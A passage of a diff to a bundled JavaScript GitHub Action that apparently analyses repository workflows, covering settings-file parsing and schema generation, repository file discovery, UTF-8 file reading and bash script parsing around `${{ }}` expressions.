@@ -2804,7 +2804,7 @@ const action = (0,_trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__/* .defineA
 __nccwpck_require__.a(__webpack_module__, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
 /* harmony import */ var _trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(3978);
 /* harmony import */ var _action_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(2601);
-/* harmony import */ var _main_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(7288);
+/* harmony import */ var _main_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(3607);
 
 
 
@@ -2815,7 +2815,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 7288:
+/***/ 3607:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -3158,6 +3158,12701 @@ function draft(document, id, ignore, message, { rules, persona }) {
 const NO_CONFIG = { path: null, persona: null, isIgnored: () => false, rules: new Map() };
 /** The place of a repository's settings when no other file is named. */
 const CONFIG_PATH = ".github/trustchain.yml";
+
+// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/index.js + 2 modules
+var yaml = __nccwpck_require__(7652);
+// EXTERNAL MODULE: ./node_modules/picomatch/index.js
+var picomatch = __nccwpck_require__(4006);
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/globs.js
+
+/** Does a path match one of the globs? A glob without `/` matches a file's name in any folder, as in `.gitignore`. */
+function pathMatcher(globs) {
+    if (globs.length === 0)
+        return () => false;
+    const matchers = globs.map((glob) => picomatch(glob.replace(/^\.?\//, ""), { dot: true, basename: !glob.includes("/") }));
+    return (path) => matchers.some((matches) => matches(path));
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/parse.js
+
+
+
+
+const TOP_KEYS = ["persona", "ignore", "rules"];
+const RULE_KEYS = ["severity", "persona", "ignore", "reason"];
+/**
+ * Reads the settings of a repository.
+ *
+ * @param ruleIds the rules that there are
+ * @throws UserError for anything that isn't as it should be, with the place in the file
+ */
+async function parseConfig(file, ruleIds) {
+    const { root, problems } = await (0,yaml/* parseYaml */.hN)(file);
+    const [problem] = problems;
+    if (problem)
+        throw wrong(file, problem.start, problem.message, "mend the YAML");
+    if (!root)
+        return { path: file.path, persona: null, isIgnored: () => false, rules: new Map() };
+    const map = expectMap(root, "settings are keys with values");
+    expectKeys(map, TOP_KEYS);
+    return {
+        path: file.path,
+        persona: oneOf(map.entry("persona"), lib/* PERSONAS */.Ud),
+        isIgnored: pathMatcher(texts(map.entry("ignore"))),
+        rules: new Map(map.entry("rules") ? ruleSettings(map.entry("rules"), ruleIds) : []),
+    };
+}
+function ruleSettings(entry, ruleIds) {
+    if (isNull(entry.value))
+        return [];
+    const map = expectMap(entry.value, "`rules` holds rule ids with their settings");
+    return map.entries.map(({ key, value }) => {
+        if (!ruleIds.includes(key.value)) {
+            throw wrong(key.file, key.start, `there is no rule \`${key.value}\`${(0,action_kit_lib/* didYouMean */.au)(key.value, ruleIds)}`, "name one of the rules in docs/rules");
+        }
+        return [key.value, settingsOf(value)];
+    });
+}
+const NOTHING = { isOff: false, severity: null, persona: null, ignore: [], reason: null };
+function settingsOf(node) {
+    if (node.kind === "map") {
+        expectKeys(node, RULE_KEYS);
+        return {
+            isOff: false,
+            severity: oneOf(node.entry("severity"), lib/* SEVERITIES */.oC),
+            persona: oneOf(node.entry("persona"), lib/* PERSONAS */.Ud),
+            ignore: texts(node.entry("ignore")).map(ignoredPlace),
+            reason: node.text("reason") ?? null,
+        };
+    }
+    // YAML 1.1 readers turn `off` into false, so people write that, too.
+    if (node.kind === "scalar" && (node.value === "off" || node.typed === false))
+        return { ...NOTHING, isOff: true };
+    const severity = node.kind === "scalar" ? lib/* SEVERITIES */.oC.find((name) => name === node.value) : undefined;
+    if (severity)
+        return { ...NOTHING, severity };
+    const given = node.kind === "scalar" ? `\`${node.value}\`` : "a list";
+    throw wrong(node.file, node.start, `${given} is no setting of a rule`, `write off, ${lib/* SEVERITIES */.oC.join(", ")} or a mapping`);
+}
+function ignoredPlace(glob) {
+    const match = /^(.*):(\d+)$/.exec(glob);
+    if (!match)
+        return { matches: pathMatcher([glob]), line: null };
+    return { matches: pathMatcher([match[1]]), line: Number(match[2]) };
+}
+function oneOf(entry, words) {
+    if (!entry || isNull(entry.value))
+        return null;
+    const node = entry.value;
+    const text = node.kind === "scalar" ? node.value : "";
+    const word = words.find((candidate) => candidate === text);
+    if (word)
+        return word;
+    const given = node.kind === "scalar" ? `\`${text}\`${(0,action_kit_lib/* didYouMean */.au)(text, words)}` : "a collection";
+    throw wrong(node.file, node.start, `\`${entry.key.value}\` is ${given}`, `write one of ${words.join(", ")}`);
+}
+function texts(entry) {
+    if (!entry || isNull(entry.value))
+        return [];
+    const { value } = entry;
+    const scalars = value.kind === "seq"
+        ? value.items.map((item) => (item.value.kind === "scalar" ? item.value : null))
+        : [value.kind === "scalar" ? value : null];
+    return scalars.map((scalar) => {
+        if (scalar && scalar.value !== "")
+            return scalar.value;
+        throw wrong(value.file, value.start, `\`${entry.key.value}\` holds something else than globs`, "write a list of path globs");
+    });
+}
+function expectMap(node, what) {
+    if (node.kind === "map")
+        return node;
+    throw wrong(node.file, node.start, `no mapping stands here, but ${what}`, "see docs/trustchain.schema.json");
+}
+function expectKeys(map, known) {
+    for (const { key } of map.entries) {
+        if (known.includes(key.value))
+            continue;
+        throw wrong(key.file, key.start, `there is no setting \`${key.value}\`${(0,action_kit_lib/* didYouMean */.au)(key.value, known)}`, `the settings here are ${known.join(", ")}`);
+    }
+}
+function isNull(node) {
+    return node.kind === "scalar" && node.isNull;
+}
+function wrong(file, offset, reason, remedy) {
+    const { line, column } = file.position(offset);
+    return new action_kit_lib/* UserError */.yo(`${file.path}:${line}:${column}`, reason, remedy);
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/schema.js
+
+/** JSON Schema (draft 2020-12) of `.github/trustchain.yml`, for editors. */
+function configSchema(rules) {
+    return {
+        $schema: "https://json-schema.org/draft/2020-12/schema",
+        $comment: "generated by npm run generate",
+        title: "trustchain settings of a repository (.github/trustchain.yml)",
+        type: "object",
+        additionalProperties: false,
+        properties: {
+            persona: { enum: PERSONAS, description: "For whom findings are reported" },
+            ignore: { $ref: "#/$defs/globs", description: "Paths that are not read at all" },
+            rules: {
+                type: "object",
+                additionalProperties: false,
+                properties: Object.fromEntries(rules.map((rule) => [rule.id, { $ref: "#/$defs/rule", description: rule.summary }])),
+            },
+        },
+        $defs: {
+            globs: { oneOf: [{ type: "string" }, { type: "array", items: { type: "string", minLength: 1 } }] },
+            severity: { enum: SEVERITIES },
+            rule: {
+                oneOf: [
+                    { const: "off" },
+                    { const: false },
+                    { $ref: "#/$defs/severity" },
+                    {
+                        type: "object",
+                        additionalProperties: false,
+                        properties: {
+                            severity: { $ref: "#/$defs/severity" },
+                            persona: { enum: PERSONAS },
+                            ignore: { $ref: "#/$defs/globs", description: "Places whose findings are suppressed: path or path:line" },
+                            reason: { type: "string", description: "Why, shown with the suppressed findings" },
+                        },
+                    },
+                ],
+            },
+        },
+    };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/index.js
+
+
+
+
+// EXTERNAL MODULE: external "node:fs"
+var external_node_fs_ = __nccwpck_require__(3024);
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/discover.js
+
+
+
+
+const SKIPPED_FOLDERS = new Set(["node_modules", ".git"]);
+const RENOVATE = new Set([
+    "renovate.json",
+    "renovate.json5",
+    ".github/renovate.json",
+    ".github/renovate.json5",
+    ".renovaterc",
+    ".renovaterc.json",
+    ".renovaterc.json5",
+]);
+const CODEOWNERS = new Set(["CODEOWNERS", ".github/CODEOWNERS", "docs/CODEOWNERS"]);
+const PACKAGE_CONFIGURATION = new Set([
+    ".npmrc",
+    ".yarnrc",
+    ".yarnrc.yml",
+    "bunfig.toml",
+    "build.gradle",
+    "build.gradle.kts",
+    "composer.json",
+    "gemfile",
+    "go.env",
+    "go.mod",
+    "nuget.config",
+    "pip.conf",
+    "pipfile",
+    "pnpm-workspace.yaml",
+    "pom.xml",
+    "pyproject.toml",
+    "settings.gradle",
+    "settings.gradle.kts",
+    "settings.xml",
+    "uv.toml",
+]);
+/** The kind of the file at `path`, or undefined for one that the analysis doesn't care about. */
+function kindOf(path) {
+    const slash = path.lastIndexOf("/");
+    const name = path.slice(slash + 1);
+    if (slash === -1 ? false : path.slice(0, slash) === ".github/workflows") {
+        return /\.ya?ml$/.test(name) ? "workflow" : undefined;
+    }
+    if (name === "action.yml" || name === "action.yaml")
+        return "action";
+    if (path === ".github/dependabot.yml" || path === ".github/dependabot.yaml")
+        return "dependabot";
+    if (RENOVATE.has(path))
+        return "renovate";
+    if (CODEOWNERS.has(path))
+        return "codeowners";
+    if (isDockerfile(name))
+        return "dockerfile";
+    return isPackageConfiguration(path, name) ? "package-configuration" : undefined;
+}
+function isDockerfile(name) {
+    return (name === "Dockerfile" || name === "Containerfile" || name.startsWith("Dockerfile.") || name.endsWith(".Dockerfile"));
+}
+function isPackageConfiguration(path, name) {
+    const lower = name.toLowerCase();
+    return (PACKAGE_CONFIGURATION.has(lower) ||
+        (lower.startsWith("requirements") && lower.endsWith(".txt")) ||
+        /(?:^|\/)\.cargo\/config(?:\.toml)?$/.test(path) ||
+        path.endsWith("gradle/verification-metadata.xml"));
+}
+/**
+ * Finds the files of a repository that the analysis reads, in a fixed order.
+ *
+ * Links to folders aren't followed, but for `.github` and what it holds; links that leave the repository are never followed.
+ */
+function discover(root) {
+    const found = { files: [], unreachable: [] };
+    walk({ root, realRoot: (0,external_node_fs_.realpathSync)(root), found, seen: new Set() }, "");
+    found.files.sort((a, b) => (0,lib/* compareText */.n6)(a.path, b.path));
+    return found;
+}
+function walk(state, folder) {
+    let entries;
+    try {
+        entries = (0,external_node_fs_.readdirSync)((0,external_node_path_.join)(state.root, folder), { withFileTypes: true });
+    }
+    catch (error) {
+        state.found.unreachable.push({ path: folder || ".", reason: (0,action_kit_lib/* explain */.WE)(error) });
+        return;
+    }
+    for (const entry of entries) {
+        const path = folder === "" ? entry.name : `${folder}/${entry.name}`;
+        if (entry.isDirectory()) {
+            if (!SKIPPED_FOLDERS.has(entry.name))
+                walk(state, path);
+        }
+        else if (entry.isSymbolicLink()) {
+            visitLink(state, path);
+        }
+        else if (entry.isFile()) {
+            addFile(state, path);
+        }
+    }
+}
+function addFile(state, path) {
+    const kind = kindOf(path);
+    if (kind)
+        state.found.files.push({ path, kind });
+}
+function visitLink(state, path) {
+    const isGithub = path === ".github" || path.startsWith(".github/");
+    if (!isGithub && !kindOf(path))
+        return;
+    const target = insideTarget(state, path);
+    if (!target)
+        return;
+    if (!target.isFolder)
+        addFile(state, path);
+    else if (isGithub && !state.seen.has(target.real)) {
+        state.seen.add(target.real);
+        walk(state, path);
+    }
+}
+function insideTarget(state, path) {
+    try {
+        const real = (0,external_node_fs_.realpathSync)((0,external_node_path_.join)(state.root, path));
+        const isInside = real === state.realRoot || real.startsWith(state.realRoot + external_node_path_.sep);
+        return isInside ? { real, isFolder: (0,external_node_fs_.statSync)(real).isDirectory() } : undefined;
+    }
+    catch {
+        // A dangling link or a loop names no file.
+        return undefined;
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/locate.js
+
+
+/** Finds the repository that a given path means; undefined when nothing is there. */
+function locateRepository(path) {
+    const absolute = (0,external_node_path_.resolve)(path);
+    const stats = (0,external_node_fs_.statSync)(absolute, { throwIfNoEntry: false });
+    if (!stats)
+        return undefined;
+    if (stats.isDirectory())
+        return { root: rootOf(outOfGithub(absolute)), only: null };
+    const root = rootOf(outOfGithub((0,external_node_path_.dirname)(absolute)));
+    return { root, only: absolute.slice(root.length + 1).replaceAll("\\", "/") };
+}
+/** The folder that holds `.github`, for paths into it. */
+function outOfGithub(folder) {
+    if ((0,external_node_path_.basename)(folder) === "workflows" && (0,external_node_path_.basename)((0,external_node_path_.dirname)(folder)) === ".github")
+        return (0,external_node_path_.dirname)((0,external_node_path_.dirname)(folder));
+    return (0,external_node_path_.basename)(folder) === ".github" ? (0,external_node_path_.dirname)(folder) : folder;
+}
+/** The nearest folder upwards, in the same git work tree, with `.github` or an action; else the folder itself. */
+function rootOf(folder) {
+    let candidate;
+    for (let at = folder;; at = (0,external_node_path_.dirname)(at)) {
+        if (candidate === undefined && isRoot(at))
+            candidate = at;
+        if ((0,external_node_fs_.existsSync)((0,external_node_path_.join)(at, ".git")))
+            return candidate ?? folder;
+        // Outside git nothing says where the repository ends.
+        if (at === (0,external_node_path_.dirname)(at))
+            return folder;
+    }
+}
+function isRoot(folder) {
+    return [".github", "action.yml", "action.yaml"].some((name) => (0,external_node_fs_.existsSync)((0,external_node_path_.join)(folder, name)));
+}
+
+// EXTERNAL MODULE: external "node:buffer"
+var external_node_buffer_ = __nccwpck_require__(4573);
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/read.js
+
+
+
+
+
+/** Reads a text file of at most `MAX_FILE_BYTES`. Text is UTF-8, as GitHub reads it. */
+function readSource(absolute, path) {
+    try {
+        const { size } = (0,external_node_fs_.statSync)(absolute);
+        if (size > yaml/* MAX_FILE_BYTES */.gZ)
+            return refused(`it has ${size} bytes, more than the ${yaml/* MAX_FILE_BYTES */.gZ} that are read`);
+        const text = (0,external_node_fs_.readFileSync)(absolute, "utf8");
+        const reason = problemWith(text, absolute);
+        return reason === null ? { ok: true, file: new lib/* SourceFile */.sC(path, text) } : refused(reason);
+    }
+    catch (error) {
+        return refused((0,action_kit_lib/* explain */.WE)(error));
+    }
+}
+function refused(reason) {
+    return { ok: false, reason };
+}
+function problemWith(text, absolute) {
+    // Bytes that are no UTF-8 were read as U+FFFD; the character itself is allowed, so only then the bytes are asked.
+    const encoding = text.includes("\ufffd") ? encodingProblem((0,external_node_fs_.readFileSync)(absolute)) : null;
+    if (encoding !== null)
+        return encoding;
+    const nul = text.indexOf("\0");
+    return nul === -1 ? null : `it holds a NUL character, at offset ${nul}, which no YAML file may`;
+}
+function encodingProblem(bytes) {
+    const mark = bytes.subarray(0, 2).toString("hex");
+    if (mark === "fffe" || mark === "feff")
+        return "it is UTF-16; GitHub reads UTF-8: save it as UTF-8";
+    return (0,external_node_buffer_.isUtf8)(bytes) ? null : "it is not valid UTF-8: save it as UTF-8";
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/parser.js
+let parse;
+/**
+ * Loads the bash parser (about 15 ms), which is needed before bash and sh scripts are parsed and not just split. The
+ * split knows less of structure only where a script is unusual, so who forgets this loses little.
+ */
+async function prepareShells() {
+    parse ??= (await __nccwpck_require__.e(/* import() */ 989).then(__nccwpck_require__.bind(__nccwpck_require__, 8989))).parse;
+}
+/** Longer scripts aren't worth a parser's time, nor a person's. */
+const MAX_LENGTH = 256 * 1024;
+/** The parser's time grows with the square of the here-documents of a line. */
+const MAX_HEREDOCS = 500;
+/** The syntax tree, or `undefined` when the parser isn't loaded or has trouble with the script. */
+function parseBash(masked) {
+    if (!parse || masked.length > MAX_LENGTH || hasMoreThan(masked, "<<", MAX_HEREDOCS))
+        return undefined;
+    try {
+        const script = parse(masked);
+        return script.errors && script.errors.length > 0 ? undefined : script;
+    }
+    catch {
+        // Deep nesting overflows its stack.
+        return undefined;
+    }
+}
+function hasMoreThan(text, part, limit) {
+    let count = 0;
+    for (let at = text.indexOf(part); at >= 0; at = text.indexOf(part, at + part.length)) {
+        if (++count > limit)
+            return true;
+    }
+    return false;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/effective-command.js
+const none = new Set();
+/** @see the manual pages of each: POSIX `env`, `nice`, `nohup`, `xargs`; sudo(8), timeout(1), bash(1) "SHELL BUILTIN COMMANDS" */
+const WRAPPERS = new Map([
+    [
+        "sudo",
+        {
+            withValue: options("u user g group h host p prompt C close-from T command-timeout r role t type D chdir R chroot U other-user"),
+            assigns: true,
+        },
+    ],
+    ["doas", { withValue: options("u C") }],
+    ["env", { withValue: options("u unset C chdir a argv0"), assigns: true }],
+    ["time", { withValue: options("f format o output") }],
+    ["command", { withValue: none, unless: new Set(["-v", "-V"]) }],
+    ["builtin", { withValue: none }],
+    ["exec", { withValue: options("a") }],
+    ["timeout", { withValue: options("s signal k kill-after"), operands: 1 }],
+    ["gtimeout", { withValue: options("s signal k kill-after"), operands: 1 }],
+    ["nice", { withValue: options("n adjustment") }],
+    ["ionice", { withValue: options("c class n classdata"), unless: new Set(["-p", "--pid"]) }],
+    ["nohup", { withValue: none }],
+    ["setsid", { withValue: none }],
+    ["stdbuf", { withValue: options("i input o output e error") }],
+    ["unbuffer", { withValue: none }],
+    ["xvfb-run", { withValue: options("e error-file f auth-file n server-num p xauth-protocol s server-args w wait") }],
+    ["xargs", { withValue: options("a arg-file d delimiter E I L max-lines n max-args P max-procs s max-chars") }],
+]);
+function options(names) {
+    return new Set(names.split(" ").map((name) => (name.length === 1 ? `-${name}` : `--${name}`)));
+}
+const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=/;
+/** Looks behind wrappers; a command without any is given back as it is. */
+function effectiveCommand(command) {
+    const words = command.name ? [command.name, ...command.args] : [];
+    const wrappers = [];
+    let at = 0;
+    for (;;) {
+        const program = baseName(words[at]?.literal);
+        const next = program === undefined ? undefined : nextProgram(words, at, program);
+        if (next === undefined || program === undefined)
+            break;
+        wrappers.push(program);
+        at = next;
+    }
+    return at === 0
+        ? { name: command.name, args: command.args, wrappers, command }
+        : { name: words[at], args: words.slice(at + 1), wrappers, command };
+}
+/** Index of the program that the wrapper at `at` runs, `undefined` when it runs none. */
+function nextProgram(words, at, program) {
+    if (program === "eval")
+        return evalProgram(words, at);
+    const wrapper = WRAPPERS.get(program);
+    if (!wrapper)
+        return undefined;
+    let operands = wrapper.operands ?? 0;
+    for (let index = at + 1; index < words.length; index++) {
+        const word = words[index];
+        const text = word.literal ?? word.text;
+        if (wrapper.unless?.has(text))
+            return undefined;
+        if (text === "--")
+            return index + 1 + operands < words.length ? index + 1 + operands : undefined;
+        if (text.startsWith("-") && text !== "") {
+            if (wrapper.withValue.has(text))
+                index++;
+        }
+        else if (wrapper.assigns && ASSIGNMENT.test(text)) {
+            // Goes into the program's environment.
+        }
+        else if (operands > 0)
+            operands--;
+        else
+            return index;
+    }
+    return undefined;
+}
+/** `eval curl x` runs its words; `eval "…"` is a text of its own, read as a nested script. */
+function evalProgram(words, at) {
+    const first = words[at + 1];
+    return first && words.length > at + 2 && first.literal !== undefined && first.literal === first.text
+        ? at + 1
+        : undefined;
+}
+/** The last part of a program's path. */
+function baseName(path) {
+    return path === undefined ? undefined : path.slice(path.lastIndexOf("/") + 1);
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/embedded.js
+/** Stands in the place of each code unit of a `${{ … }}`: no shell gives it a meaning, none takes it into a variable's name. */
+const PLACEHOLDER = "\uE000";
+/**
+ * The `${{ … }}` of a script, fences included. A `}}` inside a `'…'` literal doesn't close; an expression without end
+ * isn't one.
+ */
+function embeddedExpressions(text) {
+    const found = [];
+    let start = text.indexOf("${{");
+    while (start >= 0) {
+        const end = endOfExpression(text, start + 3);
+        if (end < 0)
+            break;
+        found.push({ start, end });
+        start = text.indexOf("${{", end);
+    }
+    return found;
+}
+function endOfExpression(text, from) {
+    let quoted = false;
+    for (let at = from; at < text.length; at++) {
+        const code = text.charCodeAt(at);
+        if (code === 39)
+            quoted = !quoted;
+        else if (!quoted && code === 125 && text.charCodeAt(at + 1) === 125)
+            return at + 2;
+    }
+    return -1;
+}
+/** The script with every expression replaced by one opaque word of the same length, so that offsets stay. */
+function maskExpressions(text, expressions) {
+    if (expressions.length === 0)
+        return text;
+    const foreign = text.includes(PLACEHOLDER);
+    let masked = "";
+    let at = 0;
+    for (const { start, end } of expressions) {
+        masked += plain(text.slice(at, start), foreign) + PLACEHOLDER.repeat(end - start);
+        at = end;
+    }
+    return masked + plain(text.slice(at), foreign);
+}
+/** The placeholder in a script's own text would pass for an expression; its neighbour means as little. */
+function plain(text, foreign) {
+    return foreign ? text.replaceAll(PLACEHOLDER, "\uE001") : text;
+}
+/** Index of the first expression that ends after `offset`; `expressions.length` when none does. */
+function firstExpressionAfter(expressions, offset) {
+    let low = 0;
+    let high = expressions.length;
+    while (low < high) {
+        const middle = (low + high) >> 1;
+        if (expressions[middle].end <= offset)
+            low = middle + 1;
+        else
+            high = middle;
+    }
+    return low;
+}
+/** Does any expression touch the range? */
+function holdsExpression(expressions, start, end) {
+    const first = expressions[firstExpressionAfter(expressions, start)];
+    return first !== undefined && first.start < end;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/source.js
+
+/** What is beyond isn't read. GitHub takes no workflow of that size; reading one shouldn't take seconds. */
+const source_MAX_LENGTH = 512 * 1024;
+function scriptSource(text, expressions = text.includes("${{") ? embeddedExpressions(text) : []) {
+    const masked = maskExpressions(text, expressions);
+    return { text, expressions, masked: masked.length > source_MAX_LENGTH ? masked.slice(0, source_MAX_LENGTH) : masked };
+}
+/** The expressions inside a range, as parts of a word. */
+function expressionParts(source, start, end, quoted) {
+    const parts = [];
+    const { expressions } = source;
+    for (let index = firstExpressionAfter(expressions, start); index < expressions.length; index++) {
+        const expression = expressions[index];
+        if (expression.start >= end)
+            break;
+        parts.push({ kind: "expression", index, start: expression.start, end: expression.end, quoted });
+    }
+    return parts;
+}
+/**
+ * Static text of a word, cut at the expressions that it holds.
+ *
+ * @param value what the range means after quote removal, made from the masked text: each expression is still there in
+ * its full length, so that the text around it can be told apart
+ */
+function literalParts(source, value, start, end, quoted) {
+    const expressions = expressionParts(source, start, end, quoted);
+    if (expressions.length === 0)
+        return [{ kind: "literal", start, end, quoted, value }];
+    const parts = [];
+    let at = start;
+    let valueAt = 0;
+    for (const expression of expressions) {
+        const placeholder = source.masked[expression.start];
+        const found = value.indexOf(placeholder, valueAt);
+        const literalEnd = found < 0 ? value.length : found;
+        if (literalEnd > valueAt) {
+            parts.push({
+                kind: "literal",
+                start: at,
+                end: expression.start,
+                quoted,
+                value: value.slice(valueAt, literalEnd),
+            });
+        }
+        parts.push(expression);
+        at = expression.end;
+        valueAt = literalEnd + (expression.end - expression.start);
+    }
+    if (valueAt < value.length)
+        parts.push({ kind: "literal", start: at, end, quoted, value: value.slice(valueAt) });
+    return parts;
+}
+/** Adds what `literalParts` gives; a spread would overflow the stack where there are very many. */
+function appendLiteral(parts, source, value, start, end, quoted) {
+    for (const part of literalParts(source, value, start, end, quoted))
+        parts.push(part);
+}
+/** The value of a word made of these parts, `undefined` when it isn't static. */
+function literalOf(parts) {
+    let value = "";
+    for (const part of parts) {
+        if (part.kind === "literal")
+            value += part.value;
+        else if (part.kind === "glob" && part.pattern !== undefined)
+            value += part.pattern;
+        else
+            return undefined;
+    }
+    return value;
+}
+/** What a script's regions say, in the words that parts use. */
+function quotedAs(region) {
+    switch (region?.quoting) {
+        case "single":
+        case "ansi-c":
+        case "heredoc-quoted":
+        case "here-string-single":
+            return "single";
+        case "double":
+            return "double";
+        case "heredoc":
+        case "here-string-double":
+            return "heredoc";
+        default:
+            return "none";
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/placement.js
+const unmoved = (start, end) => ({ start, end });
+/** The text was cut out of the outer one at `offset`. */
+function cutAt(outer, offset) {
+    return (start, end) => outer(start + offset, end + offset);
+}
+/** The text was made from what stands at `span` by more than cutting: everything is there. */
+function madeFrom({ start, end }) {
+    return () => ({ start, end });
+}
+/**
+ * The text stood inside backticks, and one level of backslashes was removed.
+ *
+ * @param raw the text between the backticks
+ * @param decoded what the parser made of it
+ * @param offset of `raw` in the outer text
+ */
+function unescaped(outer, raw, decoded, offset) {
+    const offsets = new Uint32Array(decoded.length + 1);
+    let at = 0;
+    for (let index = 0; index < decoded.length; index++) {
+        if (raw[at] === "\\" && (raw[at] !== decoded[index] || raw[at + 1] === "\\"))
+            at++;
+        offsets[index] = Math.min(at, raw.length);
+        at++;
+    }
+    offsets[decoded.length] = raw.length;
+    const place = (index) => offset + offsets[Math.min(index, decoded.length)];
+    return (start, end) => outer(place(start), place(end));
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/convert-word.js
+
+
+/** A word of unbash in our shape, converted when asked for. */
+class BashWord {
+    context;
+    convert;
+    start;
+    end;
+    #parts;
+    #literal = null;
+    constructor(context, range, convert) {
+        this.context = context;
+        this.convert = convert;
+        const span = context.place(range.pos, range.end);
+        this.start = span.start;
+        this.end = span.end;
+    }
+    get text() {
+        return this.context.source.text.slice(this.start, this.end);
+    }
+    get parts() {
+        this.#parts ??= this.convert(this.context);
+        return this.#parts;
+    }
+    get literal() {
+        if (this.#literal === null)
+            this.#literal = literalOf(this.parts);
+        return this.#literal;
+    }
+    toJSON() {
+        return { start: this.start, end: this.end, text: this.text, literal: this.literal, parts: this.parts };
+    }
+}
+function wordOf(node, context) {
+    return made(node, context, () => wordParts(node, "none", context));
+}
+/** `NAME=value` as an argument, of `export` or `env`. */
+function assignmentWord(node, context) {
+    return made(node, context, () => {
+        const values = node.value.type === "ArrayValue" ? node.value.elements : [node.value];
+        const nameEnd = values[0]?.pos ?? node.end;
+        const name = literal(context, context.text.slice(node.pos, nameEnd), node.pos, nameEnd, "none");
+        return [...name, ...values.flatMap((value) => wordParts(value, "none", context))];
+    });
+}
+function heredocWord(node, quoted, context) {
+    return made(node, context, () => {
+        const around = quoted ? "single" : "heredoc";
+        if (!node.parts)
+            return literal(context, node.text, node.pos, node.end, around);
+        return node.parts.flatMap((part) => convertPart(part, around, context));
+    });
+}
+/** A range of the text that is one static word. */
+function plainWord(start, end, context) {
+    return new BashWord(context, { pos: start, end }, () => literal(context, context.text.slice(start, end), start, end, "none"));
+}
+function arithmeticWord(expression, range, context) {
+    return made({ ...range, text: context.text.slice(range.pos, range.end) }, context, () => [
+        {
+            kind: "arithmetic",
+            ...context.place(range.pos, range.end),
+            quoted: "none",
+            parts: arithmeticParts(expression, range, context),
+        },
+    ]);
+}
+/** Substitutions hold commands, which belong to the script's: those words are converted at once. */
+const MAY_HOLD_COMMANDS = /[`(]|\$\{[\s|]/;
+function made(node, context, convert) {
+    const word = new BashWord(context, node, convert);
+    if (MAY_HOLD_COMMANDS.test(node.text))
+        void word.parts;
+    return word;
+}
+function wordParts(node, quoted, context) {
+    const { parts } = node;
+    if (parts)
+        return parts.flatMap((part) => convertPart(part, quoted, context));
+    return node.end > node.pos ? literal(context, node.value, node.pos, node.end, quoted) : [];
+}
+function literal(context, value, start, end, quoted) {
+    const span = context.place(start, end);
+    return literalParts(context.source, value, span.start, span.end, quoted);
+}
+function convertPart(part, quoted, context) {
+    const { source } = context;
+    const span = context.place(part.pos, part.end);
+    switch (part.type) {
+        case "Literal":
+            return literal(context, part.value, part.pos, part.end, quoted);
+        case "SingleQuoted":
+        case "AnsiCQuoted":
+            return literal(context, part.value, part.pos, part.end, "single");
+        case "DoubleQuoted":
+        case "LocaleString":
+            if (part.parts.length === 0)
+                return [{ kind: "literal", ...span, quoted: "double", value: "" }];
+            return part.parts.flatMap((child) => convertPart(child, quoted === "heredoc" ? quoted : "double", context));
+        case "SimpleExpansion":
+            return [{ kind: "variable", ...span, quoted, name: part.text.slice(1), operator: undefined, operand: [] }];
+        case "ParameterExpansion":
+            return [
+                {
+                    kind: "variable",
+                    ...span,
+                    quoted,
+                    name: part.parameter,
+                    operator: operatorOf(part),
+                    operand: operandOf(part, quoted, context),
+                },
+            ];
+        case "CommandExpansion":
+        case "ProcessSubstitution":
+            return [
+                { kind: "substitution", ...span, quoted, commands: part.script ? substituted(part, part.script, context) : [] },
+            ];
+        case "ArithmeticExpansion":
+            return [{ kind: "arithmetic", ...span, quoted, parts: arithmeticParts(part.expression, part, context) }];
+        case "Glob":
+        case "ExtendedGlob":
+        case "BraceExpansion": {
+            const inner = part.parts?.flatMap((child) => convertPart(child, quoted, context));
+            const parts = inner ?? expressionParts(source, span.start, span.end, quoted);
+            const isStatic = part.type !== "BraceExpansion" && parts.every((child) => child.kind === "literal" || child.kind === "glob");
+            return [{ kind: "glob", ...span, quoted, pattern: isStatic ? part.text : undefined, parts }];
+        }
+    }
+}
+function substituted(part, script, context) {
+    if (script.source === undefined)
+        return context.substitution(script, context.text, context.place);
+    // Backslashes were removed inside backticks: offsets of this script are offsets of another text.
+    const raw = context.text.slice(part.pos + 1, part.end - 1);
+    const place = unescaped(context.place, raw, script.source, part.pos + 1);
+    return context.substitution(script, script.source, place);
+}
+function operatorOf(part) {
+    if (part.prefix === "#")
+        return "length";
+    if (part.prefix === "!")
+        return "indirect";
+    return part.operation?.operator;
+}
+function operandOf(part, quoted, context) {
+    const { index, operation } = part;
+    const words = [index];
+    if (operation) {
+        if ("operand" in operation)
+            words.push(operation.operand);
+        else if ("pattern" in operation)
+            words.push(operation.pattern, operation.replacement);
+        else if ("offset" in operation)
+            words.push(operation.offset, operation.length);
+        else if (operation.type === "Unknown") {
+            const span = context.place(part.pos, part.end);
+            return expressionParts(context.source, span.start, span.end, quoted);
+        }
+    }
+    return words.flatMap((word) => (word ? wordParts(word, quoted, context) : []));
+}
+const NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;
+function arithmeticParts(expression, range, context) {
+    const parts = [];
+    if (expression)
+        collectArithmetic(expression, parts, context);
+    const whole = context.place(range.pos, range.end);
+    // Expressions stand inside words, numbers or between operators: take them as they come.
+    const expressions = expressionParts(context.source, whole.start, whole.end, "none");
